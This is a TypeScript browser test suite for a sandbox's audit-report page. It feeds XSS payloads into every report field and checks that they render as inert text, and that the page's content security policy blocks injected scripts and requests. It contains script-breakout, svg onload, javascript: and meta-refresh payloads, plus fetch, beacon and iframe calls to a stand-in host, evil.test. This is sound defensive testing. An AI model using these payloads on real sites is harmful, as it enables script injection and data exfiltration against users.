import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { AuditEntry } from '../../src/report/audit-entry.ts';
import type { Report } from '../../src/report/report.ts';
import { entryOf, hostileTexts, reportOf, serviceOf } from '../report/entries.ts';
import { openPage, startBrowser } from './open-page.ts';
import { pageOf, STARTED_MS } from './page-samples.ts';

let browser: Browser;
beforeAll(async () => { browser = await startBrowser(); });
afterAll(() => browser.close());

const TEXTS = [
  ...hostileTexts, '</script><script>alert(1)</script>', '<!--<script>', '--></style><style>*{display:none}', '\u2028\u2029', '"><iframe src="https://evil.test">',
  '<svg/onload=alert(1)>', 'javascript:alert(1)', '<base href=//evil.test>', '<meta http-equiv=refresh content=0;url=https://evil.test>', '${alert(1)}', '__proto__', 'constructor',
];

/** Every field that the sandbox can fill, filled. */
function hostileRun(): { report: Report; entries: AuditEntry[] } {
  const entries = TEXTS.map((text, index) => entryOf({
    id: index, time: new Date(STARTED_MS + index).toISOString(), host: text, method: text, path: text, rule: text, reason: text as AuditEntry['reason'], decision: 'blocked',
    secrets: [{ name: text, substitutions: 1, scrubs: 0, refusals: 0 }],
  }));
  const group = (text: string) => ({ host: text, port: 443, method: text, path: text, reason: text as 'host-not-allowed', count: 1, remedy: `add \`${text}\` to allow` });
  const report = reportOf({
    id: TEXTS.join(''), conclusion: 'error', error: TEXTS.join(''), problems: TEXTS, mode: 'observe', image: TEXTS.join(''), imageDigest: TEXTS.join(''), commandStartedAt: new Date(STARTED_MS).toISOString(),
    blocked: TEXTS.map(group), failed: TEXTS.map(group), observed: TEXTS.map(group), samples: [{ atSeconds: 1, cpuSeconds: 1, memoryBytes: 1, pids: 1, storageBytes: 1, requests: 1, blocked: 1 }],
    services: TEXTS.map((text) => serviceOf({ name: text, image: text, imageDigest: text })),
    exposed: TEXTS.flatMap((text) => [{ port: 1, url: text, connections: 1, requests: 1, refused: 1 }, { port: 2, socket: text, connections: 1, refused: 1 }]),
    secrets: TEXTS.map((text) => ({ name: text, hosts: [text], placeholderPrefix: text, substitutions: 1, scrubs: 1, refusals: 1 })), changes: { files: 1, insertions: 1, deletions: 0, problem: TEXTS.join('') },
  });
  const hosts = TEXTS.map((text) => ({ host: text, requests: 1, blocked: 1, requestBytes: 1, responseBytes: 1, substitutions: 1, scrubs: 1 }));
  return { report: { ...report, usage: { ...report.usage, network: { ...report.usage.network, hosts } } }, entries };
}

test('what the sandbox chose stays text: no script, element, link, style or request of its own', async () => {
  const { report, entries } = hostileRun();
  const patch = Buffer.from(TEXTS.map((text) => `diff --git a/${text} b/${text}\n--- a/${text}\n+++ b/${text}\n`).join(''));
  const html = pageOf(report, { entries, patch });
  for (const text of ['evil.test', 'alert(1)', '<!--', '\u2028']) expect(html, text).not.toContain(text);
  await using opened = await openPage(browser, { html });
  const { page } = opened;
  for (const button of await page.locator('.refusals .line button').all()) await button.dispatchEvent('click');
  await page.locator('.open').first().click();
  for (const part of ['#services', '#exposed']) expect(await page.locator(`${part} tbody`).textContent(), part).toContain('<img src=x onerror=alert(1)>');
  expect(await page.locator('body').textContent()).toContain('<img src=x onerror=alert(1)>');
  expect(await page.locator('iframe, img, svg, base, object, embed, meta[http-equiv="refresh"]').count()).toBe(0);
  expect(await page.evaluate('[...document.querySelectorAll("script")].length')).toBe(2);
  expect(await page.evaluate('[...document.links].filter((link) => !/^#[a-z]+$/.test(link.getAttribute("href"))).length')).toBe(0);
  expect(await page.locator('body').textContent()).not.toMatch(/[\u202e\u200b\u2028\x1b]/);
  expect(opened).toMatchObject({ complaints: [], requests: [] });
});

// The control: the page's policy is what holds even where its script would not.
test.each([
  ['an inline script', 'const s = document.createElement("script"); s.text = "window.ran = 1"; document.body.append(s);'],
  ['a handler', 'document.body.setAttribute("onclick", "window.ran = 1"); document.body.click();'],
  ['markup', 'document.body.innerHTML = "<b id=ran></b>"; window.ran = document.getElementById("ran");'],
  ['a link that is a script', 'const a = document.createElement("a"); a.href = "javascript:void(window.ran = 1)"; document.body.append(a); a.click();'],
])('the policy stops %s', async (_, code) => {
  await using opened = await openPage(browser, { html: pageOf(reportOf(), { entries: [] }) });
  await opened.page.evaluate(`try { ${code} } catch {}`);
  expect(await opened.page.evaluate('window.ran ?? null')).toBe(null);
});

test.each([
  ['a fetch', 'fetch("https://evil.test/").catch(() => {})'], ['an image', 'new Image().src = "https://evil.test/x.png"'],
  ['a style', 'document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.test/x.css" }))'],
  ['a frame', 'document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.test/" }))'],
  ['a beacon', 'navigator.sendBeacon("https://evil.test/", "x")'],
])('the policy stops %s', async (_, code) => {
  await using opened = await openPage(browser, { html: pageOf(reportOf(), { entries: [] }) });
  await opened.page.evaluate(`{ ${code}; null }`);
  await opened.page.waitForFunction('document.readyState === "complete"');
  expect(opened.requests).toEqual([]);
  expect(opened.complaints.join()).toMatch(/Content Security Policy/);
});
